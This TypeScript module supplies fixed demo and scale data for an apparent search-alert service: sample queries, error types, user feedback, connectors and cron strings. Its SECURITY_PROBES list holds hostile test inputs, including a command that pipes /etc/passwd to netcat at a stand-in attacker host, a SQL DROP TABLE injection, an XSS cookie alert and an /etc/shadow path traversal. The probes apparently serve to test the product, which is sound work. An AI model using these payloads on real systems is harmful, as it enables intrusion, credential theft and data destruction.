/** The fixed vocabulary of the demo and scale data (search queries, errors, feedback, connectors, schedules). */

export const SEARCH_QUERIES = [
  'iPhone release date',
  'PS5 stock',
  'When is the next iPhone being released?',
  'Is PS5 in stock at Target?',
  'Nintendo Switch 2 price drop',
  'Taylor Swift tour tickets on sale',
  'RTX 5090 availability',
  'Tesla Model Y price change',
  'Bitcoin above 100k',
  'Fed interest rate decision',
  'New Zelda game announcement',
  'Apple Vision Pro discount',
  'Costco gold bar restock',
  'Concert tickets Madison Square Garden',
  'Flight price NYC to Tokyo under $600',
  'Steam summer sale start date',
  'Pixel 10 launch event',
  'Stanley cup restock Target',
  'Air Jordan 1 release',
  'Mortgage rates below 6%',
  'OpenAI GPT release announcement',
  'Macbook Pro M5 release',
  'World Cup tickets resale',
  'Home Depot generator in stock',
] as const;

export const ERROR_KINDS = [
  { type: 'RateLimitError', share: 0.7, messages: ['Rate limit exceeded for Google Search API', 'Rate limit exceeded for Gemini API (429)'] },
  { type: 'TimeoutError', share: 0.2, messages: ['Search request timed out after 30000 ms', 'LLM response timed out after 30000 ms'] },
  { type: 'ValidationError', share: 0.1, messages: ['Model response did not match the condition schema', 'Search query is empty after normalisation'] },
] as const;

export const PRODUCT_FEEDBACK = [
  'Notifications arrive twice when the condition is met',
  'Please add a weekly digest instead of single emails',
  'The schedule editor does not accept "every 2 hours"',
  'Love the PS5 alerts, got one on launch day!',
  'Dark mode on the dashboard please',
  'Task history should show why the condition was not met',
  'Export my tasks to CSV',
  'Webhook retries are too aggressive',
] as const;

export const SECURITY_PROBES = [
  { classification: 'script', body: '<script>alert(document.cookie)</script>' },
  { classification: 'command', body: '; cat /etc/passwd | nc attacker.example 4444' },
  { classification: 'sql', body: "' OR 1=1; DROP TABLE users; --" },
  { classification: 'template', body: '{{7*7}} ${7*7} <%= 7*7 %>' },
  { classification: 'path', body: '../../../../etc/shadow' },
  { classification: 'fuzz', body: 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA%n%n%n%x%x\u202e\uffff' },
] as const;

export const CONNECTORS = ['github', 'slack', 'stripe', 'notion', 'linear'] as const;
export const CRONS = ['0 9 * * *', '*/30 * * * *', '0 * * * *', '0 */6 * * *', '15 8 * * 1-5'] as const;
